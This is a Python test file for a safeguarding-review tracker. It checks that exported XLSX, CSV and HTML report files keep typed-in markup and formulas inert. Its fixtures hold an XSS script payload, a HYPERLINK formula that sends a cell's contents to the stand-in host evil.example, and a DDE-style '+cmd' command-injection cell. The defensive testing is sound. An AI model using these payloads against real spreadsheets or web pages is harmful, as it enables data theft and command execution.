"""Text stays text in files: markup and formulas typed into a field come out inert: as typed in XLSX and HTML, and in
CSV with OWASP's leading apostrophe on a cell that starts with = + - @ tab or CR (the import strips it again)."""
from __future__ import annotations

from datetime import date

from openpyxl import load_workbook

from monitoring.trackers.export import write_tracker
from monitoring.trackers.layout import COLUMNS

SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'


def tracker_row(**overrides) -> dict:
    row = {column: "" for column, _, _ in COLUMNS}
    row.update(board="North Shire", review="Child C (2014)", review_code="child-c-2014", review_type="scr",
               recommendation_no=1, recommendation=SCRIPT, priority="no", agency="Police", action=FORMULA,
               lead="+cmd|' /C calc'!A0", success_measure="@SUM(1+1)", target_date=date(2024, 6, 30),
               status="In progress", status_date=date(2024, 2, 1), agreed_date=date(2024, 1, 10), notes=SCRIPT,
               evidence="-2+3", themes="neglect", rag="Amber", rag_word="On track")
    row.update(overrides)
    return row


def test_the_tracker_workbook_keeps_formulas_and_markup_as_plain_text(tmp_path):
    out = write_tracker([tracker_row()], tmp_path / "tracker.xlsx", as_at=date(2024, 3, 31))
    sheet = load_workbook(out).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = {h: c for h, c in zip(header, sheet[2])}

    assert cells["Action"].value == FORMULA and cells["Action"].data_type == "s"
    assert cells["Recommendation"].value == SCRIPT and cells["Notes"].value == SCRIPT
    assert cells["Lead"].value == "+cmd|' /C calc'!A0" and cells["Lead"].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_annual_report_pack_keeps_markup_and_formulas_inert(make_services, sqlite_url, tmp_path):
    import csv
    import io

    from monitoring.reports.annual_report import gather
    from monitoring.reports.pack import build_pack
    from tests.builders import BOARD, board_with_action
    from tests.conftest import TODAY

    services = make_services(sqlite_url)
    app = services.app
    board_with_action(app, target=date(2024, 9, 30))
    app.complete_action("child-c-2014/R1/A1", "Audit", actor="police.lead", on=date(2024, 6, 1))
    app.sign_off_action("child-c-2014/R1/A1", SCRIPT, actor="chair", on=date(2024, 7, 1))  # the impact statement
    app.make_recommendation("child-c-2014", 2, SCRIPT, actor="manager", on=date(2024, 4, 2))
    app.add_action("child-c-2014/R2", "Police", FORMULA, date(2024, 12, 31), actor="manager", on=date(2024, 4, 3))
    app.report_progress("child-c-2014/R2/A1", SCRIPT, actor="police.lead", on=date(2024, 5, 1))  # overdue at year end
    services.catch_up()
    report = gather(services.queries, 2024, today=TODAY, board=BOARD)

    build_pack(report, tmp_path, ("csv", "xlsx"))

    page = (tmp_path / "index.html").read_text(encoding="utf-8")
    assert "<script>window" not in page and "<img src=x" not in page
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;&lt;img src=x onerror=&quot;window.__pwned=2&quot;&gt;" in page
    cells = [c for f in (tmp_path / "data").glob("*.csv")
             for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"))) for c in row]
    assert SCRIPT in cells and "'" + FORMULA in cells and FORMULA not in cells  # neutralised, the text kept after the '
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    book = load_workbook(tmp_path / "annual-report-2024-25.xlsx")
    text_cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert any(c.value == FORMULA and c.data_type == "s" for c in text_cells)
    assert any(c.value == SCRIPT for c in text_cells)
    assert not any(c.data_type == "f" for c in text_cells)
